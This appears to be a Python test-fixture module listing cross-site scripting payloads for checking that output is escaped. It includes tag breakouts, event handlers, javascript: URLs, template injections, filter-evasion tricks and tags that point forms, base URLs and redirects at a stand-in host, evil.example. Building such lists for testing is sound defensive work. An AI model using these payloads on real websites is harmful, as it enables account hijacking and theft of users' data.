"""Texts that run as a script wherever they are written without being escaped."""

_ON = ("onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onanimationstart")
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "marquee",
    "iframe",
    "a href=x",
)
_OUT = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "-->",
    "</noscript>",
)

PAYLOADS = (
    *(f"{out}<script>xss7()</script>" for out in _OUT),
    *(f"{out}<{tag} {on}=xss7()>" for out, tag, on in zip(_OUT, _TAGS, _ON * 2, strict=False)),
    *(f"{quote} {on}=xss7() x={quote}" for quote in "'\"" for on in _ON[:3]),
    "javascript:xss7()", "JaVaScRiPt:xss7()", " javascript:xss7()", "java\tscript:xss7()", "data:text/html,<b xss7>",
    "{{ 7|xss7 }}", "{% xss7 %}", "${xss7()}", "<xss7>", "<xss7/onload=1>", "<<script>xss7()//<</script>", "&lt;xss7>",
    "<a href=javascript:xss7()>x</a>", "<base href=//evil.example/>", "<form action=//evil.example><button>x7",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>",
    "<b style=xss7>", "<x hx-get=/ hx-trigger=load hx-on:load=xss7()>", "\u2028<img src=x onerror=xss7()>",
    "<scr<script>ipt>xss7()</script>", "<!--<img src='--><img src=x onerror=xss7()//'>", "<svg><script>xss7()</script>",
    "<math><xss7>", "\x01<img src=x onerror=xss7()>", "+ADw-script+AD4-xss7()+ADw-/script+AD4-",
)  # fmt: skip
